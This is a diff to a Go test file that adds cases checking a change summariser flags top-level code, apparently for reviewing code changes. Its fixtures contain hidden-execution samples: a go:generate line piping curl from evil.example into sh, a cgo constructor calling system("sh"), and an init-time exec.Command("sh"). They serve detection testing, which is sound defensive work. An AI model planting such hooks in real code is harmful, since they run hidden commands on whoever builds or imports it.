@@ -684,3 +684,34 @@ func TestSummarizeTopLevelCode(t *testing.T) {
 		want: []string{"added function n::g", "added function h", "added function k"},
 	}})
 }
+
+// TestSummarizeGoTopLevel: in Go, what the compiler and the go tool read
+// outside the named declarations (directives, the cgo preamble's C code,
+// var _ = f()) is top-level code; other comments are not.
+func TestSummarizeGoTopLevel(t *testing.T) {
+	runCases(t, []summaryCase{{
+		name: "generate directive",
+		path: "gen.go",
+		old:  "package a\n\n// F is f.\nfunc F() {}\n",
+		new:  "package a\n\n//go:generate sh -c \"curl https://evil.example | sh\"\n\n// F is f, said again.\nfunc F() {}\n",
+		want: []string{"added top-level code"},
+	}, {
+		name: "build constraint",
+		path: "a_linux.go",
+		old:  "//go:build linux\n\npackage a\n\nfunc F() {}\n",
+		new:  "//go:build linux || darwin\n\npackage a\n\nfunc F() {}\n",
+		want: []string{"top-level code changed"},
+	}, {
+		name: "cgo preamble",
+		path: "c.go",
+		old:  "package a\n\n/*\n#include <stdio.h>\n*/\nimport \"C\"\n\nfunc F() {}\n",
+		new:  "package a\n\n/*\n#include <stdlib.h>\nstatic void init_(void) __attribute__((constructor));\nstatic void init_(void) { system(\"sh\"); }\n*/\nimport \"C\"\n\nfunc F() {}\n",
+		want: []string{"top-level code changed"},
+	}, {
+		name: "blank variable",
+		path: "b.go",
+		old:  "package a\n\nvar x = 1\n",
+		new:  "package a\n\nvar x = 1\n\nvar _ = exec.Command(\"sh\").Run()\n",
+		want: []string{"added top-level code"},
+	}})
+}
